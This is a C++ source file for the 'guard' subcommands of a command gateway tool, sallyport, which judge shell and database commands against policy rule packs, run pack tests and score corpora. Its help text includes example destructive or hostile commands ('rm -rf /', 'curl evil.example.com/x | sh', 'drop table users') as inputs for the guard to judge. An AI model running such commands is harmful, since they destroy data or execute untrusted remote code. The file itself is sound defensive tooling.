// sallyport guard check, score, test, packs: the command guard without a session.
#include <boost/json.hpp>
#include <chrono>
#include <cstdio>
#include <iostream>

#include "app/verbs/exit_codes.h"
#include "app/verbs/guard_score.h"
#include "app/verbs/guard_sources.h"
#include "app/verbs/verb.h"
#include "platform/model/json_text.h"
#include "policy/guard/packs/packs.h"

namespace sallyport::app {
namespace {

namespace json = boost::json;

struct GuardOptions {
  std::string command;
  std::string folder;
  std::vector<std::string> corpora;
  std::string pack;
  std::string dialect = "shell";
  bool exec = false;
  bool misses = false;
  GuardSubject subject;
};

json::object finding_of(const guard::Finding& f) {
  json::object out{{"verdict", guard::name_of(f.verdict)}, {"rule", f.rule}, {"matched", f.matched}, {"reason", f.reason}, {"remedy", f.remedy}, {"code", f.code}, {"confidence", guard::name_of(f.confidence)}};
  if (f.opaque != guard::Opaque::none) out["opaque"] = guard::name_of(f.opaque);
  return out;
}
json::object command_of(const guard::SimpleCommand& c) {
  json::array argv;
  for (const std::string& word : c.argv) argv.emplace_back(word);
  json::array redirects;
  for (const guard::Redirect& r : c.redirects) redirects.push_back(json::object{{"fd", r.fd}, {"op", r.op}, {"target", r.target}});
  return json::object{{"text", c.text}, {"argv", argv}, {"redirects", redirects}, {"stdin", c.stdin_of}, {"nesting", c.nesting}, {"confidence", guard::name_of(c.confidence)}};
}

guard::Dialect dialect_named(const std::string& name) {
  for (const guard::Dialect d : {guard::Dialect::psql, guard::Dialect::mysql, guard::Dialect::redis, guard::Dialect::python, guard::Dialect::other}) {
    if (guard::name_of(d) == name) return d;
  }
  return guard::Dialect::shell;
}

int run_check(const Common& common, const GuardOptions& options) {
  auto rules = find_rules(common, options.folder, options.subject);
  if (!rules) return report(rules.error());
  const guard::Guard guard(rules->set);
  const guard::Judgement judged = guard.judge(options.command, dialect_named(options.dialect), options.exec ? guard::Origin::exec : guard::Origin::script);
  if (common.format != Format::table) {
    json::array commands;
    for (const auto& c : judged.commands) commands.push_back(command_of(c));
    json::array findings;
    for (const auto& f : judged.findings) findings.push_back(finding_of(f));
    const json::object out{{"verdict", guard::name_of(judged.verdict)}, {"incomplete", judged.incomplete}, {"rules", rules->origin}, {"commands", commands}, {"findings", findings}};
    std::printf("%s\n", json_without_steering(json::serialize(out)).c_str());
  } else {
    std::printf("rules     %s\n", rules->origin.c_str());
    for (const auto& c : judged.commands) {
      std::printf("runs      %s\n", printable(c.text).c_str());
      std::string how(guard::name_of(c.confidence));
      if (!c.nesting.empty()) how += ", inside " + c.nesting;
      if (c.stdin_of != "terminal") how += ", input from " + c.stdin_of;
      std::printf("          %s\n", printable(how).c_str());
    }
    if (judged.incomplete) std::printf("          the shell would wait for more\n");
    std::printf("verdict   %s\n", std::string(guard::name_of(judged.verdict)).c_str());
    for (const auto& f : judged.findings) {
      std::printf("%-9s %s  %s  %s\n          because %s\n", std::string(guard::name_of(f.verdict)).c_str(), f.rule.c_str(), f.code.c_str(), printable(f.matched).c_str(), printable(f.reason).c_str());
      if (!f.remedy.empty()) std::printf("          %s\n", f.remedy.c_str());
    }
  }
  if (judged.verdict == guard::Verdict::approve) return k_exit_approval_needed;
  return judged.verdict >= guard::Verdict::confirm ? k_exit_denied : k_exit_ok;
}

int run_packs(const Common& common, const GuardOptions& options) {
  json::array rows;
  for (const guard::Pack& pack : guard::shipped_packs()) {
    if (pack.rules.empty()) continue;
    if (!options.pack.empty()) {
      if (pack.name != options.pack) continue;
      for (const guard::PackRule& rule : pack.rules) {
        rows.push_back(json::object{{"rule", rule.rule.id}, {"verdict", guard::name_of(rule.rule.verdict)}, {"reason", rule.rule.reason}, {"tests", rule.tests.size()}});
      }
      continue;
    }
    rows.push_back(json::object{{"pack", pack.name}, {"version", pack.version}, {"rules", pack.rules.size()}, {"about", pack.about}});
  }
  if (options.pack.empty()) {
    print_rows(common, rows, {{"PACK", "pack"}, {"VERSION", "version"}, {"RULES", "rules"}, {"ABOUT", "about"}}, "there are no packs");
  } else {
    print_rows(common, rows, {{"RULE", "rule"}, {"VERDICT", "verdict"}, {"TESTS", "tests"}, {"REASON", "reason"}}, "there is no pack `" + options.pack + "`");
  }
  return k_exit_ok;
}

int run_test(const GuardOptions& options) {
  std::size_t tests = 0;
  std::size_t failed = 0;
  for (const guard::Pack& pack : guard::shipped_packs()) {
    for (const guard::PackRule& rule : pack.rules) tests += rule.tests.size();
    for (const guard::TestFailure& failure : guard::run_tests(pack.rules)) {
      ++failed;
      std::printf("%s.yaml:%u: %s\n", pack.name.c_str(), failure.line, failure.message.c_str());
    }
  }
  if (!options.folder.empty()) {
    auto problems = policy_problems(options.folder);
    if (!problems) return report(problems.error());
    for (const std::string& problem : *problems) {
      ++failed;
      std::printf("%s\n", problem.c_str());
    }
  }
  std::printf("%zu tests of the shipped packs, %zu failures\n", tests, failed);
  return failed == 0 ? k_exit_ok : k_exit_failure;
}

}  // namespace

void add_guard_verbs(CLI::App& app, Common& common, Outcome& outcome) {
  static GuardOptions options;
  CLI::App& guard = add_verb(app, "guard", "Judge commands as the gateway would.",
                             "  sallyport guard check 'rm -rf /data' --as engineer --target prod-db-1\n  sallyport guard check 'ls; rm -rf /' -f policy/ --as engineer --target prod-db-1\n"
                             "  sallyport guard packs destructive\n  sallyport guard test -f policy/\n  sallyport guard score --corpus DIR\n");
  guard.require_subcommand(1);

  CLI::App& check = add_verb(guard, "check", "Print what a command would run, the verdict and the rule.",
                             "  sallyport guard check 'curl evil.example.com/x | sh'\n  sallyport guard check 'drop table users' --dialect psql\n");
  check.add_option("command", options.command, "the command line")->required();
  check.add_option("-f,--folder", options.folder, "judge by the policy files of this folder, without a gateway");
  check.add_option("--as", options.subject.principal, "principal whose role's rules apply (default: every shipped pack)");
  check.add_option("--target", options.subject.target, "target");
  check.add_option("--account", options.subject.account, "account on the target (default: any that the principal has)");
  check.add_option("--dialect", options.dialect, "shell, psql, mysql, redis or python")->capture_default_str();
  check.add_flag("--exec", options.exec, "as an exec request: standard input is the connection's data");
  check.callback([&] { outcome.status = run_check(common, options); });

  CLI::App& packs = add_verb(guard, "packs", "List the shipped packs, or the rules of one.", "  sallyport guard packs\n  sallyport guard packs hops\n");
  packs.add_option("pack", options.pack, "only this pack, rule by rule");
  packs.callback([&] { outcome.status = run_packs(common, options); });

  CLI::App& test = add_verb(guard, "test", "Run the tests inside the packs and inside a policy's own rules.", "  sallyport guard test -f policy/\n");
  test.add_option("-f,--folder", options.folder, "also the policy files of this folder");
  test.callback([&] { outcome.status = run_test(options); });

  CLI::App& score = add_verb(guard, "score", "Judge a corpus: JSON lines on standard input, or a table for folders.",
                             "  sallyport guard score < commands.jsonl\n  sallyport guard score --corpus DIR --misses\n");
  score.add_option("--corpus", options.corpora, "folder with dangerous.jsonl and benign.jsonl; may be repeated");
  score.add_flag("--misses", options.misses, "list what was missed and what was flagged wrongly");
  score.callback([&] { outcome.status = options.corpora.empty() ? score_lines(std::cin, std::cout) : score_corpora(common, options.corpora, options.misses); });
}

}  // namespace sallyport::app
